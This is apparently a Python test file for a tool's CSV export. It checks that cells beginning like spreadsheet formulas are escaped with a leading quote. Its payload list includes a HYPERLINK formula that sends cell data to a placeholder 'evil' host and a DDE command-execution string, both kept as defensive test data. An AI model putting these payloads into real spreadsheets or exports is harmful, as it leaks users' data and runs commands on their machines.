"""What a person wrote is a cell of a spreadsheet, never a formula in it."""

import csv
import io

import pytest

from bot.cli import audit

FORMULAS = ['=HYPERLINK("http://evil?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
ROW = {"request": "Discount", "customer": "Brightwater", "reason": "", "minutes": 7, "went_to": []}


def told(capsys: pytest.CaptureFixture[str], **row: object) -> dict[str, str]:
    audit._csv([ROW | row])
    [line] = csv.DictReader(io.StringIO(capsys.readouterr().out))
    return line


@pytest.mark.attack(26)
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula(capsys: pytest.CaptureFixture[str], formula: str) -> None:
    moved = [{"to": formula, "at": "2026-11-02", "reason": "away"}]
    line = told(capsys, reason=formula, customer=formula, went_to=moved)
    assert line["reason"] == line["customer"] == f"'{formula}"
    assert not line["went_to"].startswith(tuple("=+-@\t\r"))


def test_other_words_and_numbers_stand_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    line = told(capsys, reason="3 = 2 + 1, says A-Z", minutes=-5)
    assert (line["reason"], line["minutes"]) == ("3 = 2 + 1, says A-Z", "-5")
